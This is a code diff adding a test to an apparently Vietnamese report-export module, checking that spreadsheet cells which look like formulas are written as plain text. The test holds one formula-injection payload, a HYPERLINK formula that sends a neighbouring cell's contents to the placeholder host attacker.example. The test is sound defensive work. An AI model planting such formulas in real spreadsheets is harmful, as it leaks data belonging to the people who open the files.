@@ -117,3 +117,22 @@ def test_its_response_is_an_xlsx_attachment():
     assert response["Content-Type"] == excel.XLSX_TYPE
     assert response["Content-Disposition"] == 'attachment; filename="danh-muc-de-an-20250102.xlsx"'
     assert read(response.content).active["A1"].value.startswith("Danh mục đề án")
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_every_report_file():
+    leak = '=HYPERLINK("http://attacker.example/?leak="&B5,"Xem")'
+    table = sample_table()
+    table.rows[0][0] = leak
+    table.rows[1][0] = "@SUM(1+1)"
+    book = read(
+        excel.workbook(
+            heading="Báo cáo",
+            period="Năm 2026",
+            tables=[table],
+            produced=datetime.date(2026, 12, 1),
+        )
+    )
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    written = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert written[leak].quotePrefix and written["@SUM(1+1)"].quotePrefix
